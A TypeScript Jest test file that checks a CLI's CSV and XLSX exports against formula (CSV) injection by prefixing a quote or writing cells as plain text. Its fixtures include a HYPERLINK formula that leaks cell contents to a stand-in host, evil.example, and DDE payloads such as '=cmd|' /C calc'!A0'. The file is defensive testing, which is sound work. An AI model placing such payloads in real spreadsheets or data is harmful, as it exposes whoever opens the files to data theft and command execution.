/**
 * Formula injection (CSV injection): plan-supplied text such as a title
 * `=HYPERLINK(…)` or a person id `=cmd|…` must reach a spreadsheet as text, never as a
 * formula. Every CSV the CLI writes goes through `toCsv`, which prefixes a single quote
 * to text cells starting with = + - @ tab or CR (OWASP), while numbers stay numbers; the
 * ledger's XLSX writes text cells as strings in the Text format, never as formulas.
 * Against a dev server (the ledger queries every task; none is launched here).
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { SqliteAuditStore } from '@duban/activities';
import { BOM, toCsv } from '@duban/cli';
import { loadPlanFile, rebasePlan, type Plan } from '@duban/plan';
import type { TestWorkflowEnvironment } from '@temporalio/testing';
import { removeTemporaryDirectories, SEED_PLAN_PATH, serverAddress, startDevServer, temporaryDirectory } from '../harness';
import { duban as run, type Run } from './run';

jest.setTimeout(300_000);

/** What a hostile or careless plan writer can put in a cell. */
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")';
const CMD = "=cmd|' /C calc'!A0";
const AT_SUM = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const PLUS = '+1+2';
const MINUS = '-2+3';
const TAB = '\t=1+1';
const CR = '\r=1+1';
const FULL_WIDTH = '＝1+1';

let env: TestWorkflowEnvironment;
let dir: string;
let plan: Plan;
let planFile: string;

function duban(args: string[]): Promise<Run> {
  return run(args, { env: { TEMPORAL_ADDRESS: serverAddress(env) } });
}

/** The records of a CSV file as Excel reads its cells (BOM first, then RFC 4180). */
function readCsv(file: string): string[][] {
  const text = readFileSync(file, 'utf8');
  expect(text.startsWith(BOM)).toBe(true);
  return parse(text, { bom: true, relax_column_count: false }) as string[][];
}

beforeAll(async () => {
  env = await startDevServer();
  dir = temporaryDirectory('duban-csv-injection-');
  const seed = rebasePlan(await loadPlanFile(SEED_PLAN_PATH), new Date().getFullYear() + 1);
  // Task 1's title, task 2's title, the name of task 1's primary lead unit: all text the ledger prints.
  const actions = seed.actions.map((action, a) =>
    a !== 0
      ? action
      : { ...action, tasks: action.tasks.map((task, i) => ({ ...task, title: { ...task.title, zh: i === 0 ? HYPERLINK : MINUS } })) },
  );
  const units = seed.units.map((unit) => (unit.code === 'chengjian' ? { ...unit, name: AT_SUM } : unit));
  plan = { ...seed, actions, units };
  planFile = join(dir, 'plan.yaml');
  writeFileSync(planFile, JSON.stringify(plan, null, 2));
});

afterAll(async () => {
  await env?.teardown();
  removeTemporaryDirectories();
});

describe('toCsv, the one place every CSV is written', () => {
  test('prefixes a single quote to text starting with = + - @ tab or CR (and their full-width forms), and leaves other text alone', () => {
    const texts = [HYPERLINK, CMD, AT_SUM, PLUS, MINUS, TAB, CR, FULL_WIDTH];
    const [header, ...rows] = parse(toCsv(['text'], [...texts, '河湖水环境整治', '3 = 3', 'a-b'].map((t) => [t])), { relax_column_count: false }) as string[][];
    expect(header).toEqual(['text']);
    expect(rows.map(([cell]) => cell)).toEqual([...texts.map((t) => `'${t}`), '河湖水环境整治', '3 = 3', 'a-b']);
  });

  test('leaves numbers as numbers: a negative number is numeric data, the same characters as text are not', () => {
    const csv = toCsv(['n', 'text'], [[-3, '-3'], [2.5, '2.5'], [null, '']]);
    expect(csv.split('\r\n')).toEqual(['n,text', "-3,'-3", '2.5,2.5', ',', '']);
  });
});

describe('ledger', () => {
  test('--format csv writes plan titles and unit names as text cells', async () => {
    const out = join(dir, 'ledger.csv');
    const result = await duban(['ledger', planFile, '--out', out]);
    expect(result.stderr).toContain('Wrote the ledger of 20 tasks');
    expect(result.code).toBe(0);
    const rows = readCsv(out);
    expect(rows[1]?.slice(0, 4)).toEqual(['1', '1', `'${HYPERLINK}`, `'${AT_SUM}`]);
    expect(rows[2]?.[2]).toBe(`'${MINUS}`);
    // No cell of the file starts a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('--format xlsx writes text as strings in the Text format, never formulas, and numbers as numbers', async () => {
    const out = join(dir, 'ledger.xlsx');
    const result = await duban(['ledger', planFile, '--format', 'xlsx', '--out', out]);
    expect(result.code).toBe(0);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(out);
    const sheet = workbook.getWorksheet('Ledger');
    const row = sheet?.getRow(2);
    const title = row?.getCell(3);
    // A string cell holds the words as the plan writes them: Excel shows them and evaluates nothing.
    expect(title?.type).toBe(ExcelJS.ValueType.String);
    expect(title?.value).toBe(HYPERLINK);
    expect(title?.formula).toBeUndefined();
    expect(title?.numFmt).toBe('@');
    expect(row?.getCell(4).type).toBe(ExcelJS.ValueType.String);
    expect(row?.getCell(4).value).toBe(AT_SUM);
    expect(sheet?.getRow(3).getCell(3).type).toBe(ExcelJS.ValueType.String);
    expect(sheet?.getRow(3).getCell(3).value).toBe(MINUS);
    // Numbers stay numbers, so the sheet can sum and sort them.
    expect(row?.getCell(1).type).toBe(ExcelJS.ValueType.Number);
    expect(row?.getCell(1).value).toBe(1);
    // No cell anywhere is a formula.
    sheet?.eachRow((r) => r.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });
});

describe('audit export', () => {
  test('--format csv writes a hostile person id as a text cell, to a file and to stdout', async () => {
    const auditDb = join(dir, 'audit.sqlite');
    const store = SqliteAuditStore.open(auditDb);
    try {
      // What the worker's appendAudit activity stores for a message from that person.
      await store.append({
        idempotencyKey: 'csv-injection/1',
        at: '2027-03-01T09:00:00+08:00',
        planId: plan.id,
        taskNumber: 1,
        workflowId: `duban/${plan.id}/task-1`,
        actor: CMD,
        event: 'progress.reported',
        details: { note: PLUS },
      });
    } finally {
      await store.close();
    }
    const out = join(dir, 'audit.csv');
    const toFile = await duban(['audit', 'export', '--plan', plan.id, '--format', 'csv', '--out', out, '--audit-db', auditDb]);
    expect(toFile.code).toBe(0);
    const [, record] = readCsv(out);
    expect(record?.[1]).toBe(`'${CMD}`);
    expect(record?.[3]).toBe('1');
    expect(JSON.parse(record?.[5] ?? '{}')).toEqual({ note: PLUS });

    const toStdout = await duban(['audit', 'export', '--plan', plan.id, '--format', 'csv', '--audit-db', auditDb]);
    expect(toStdout.code).toBe(0);
    const [, printed] = parse(toStdout.stdout) as string[][];
    expect(printed?.[1]).toBe(`'${CMD}`);
  });
});
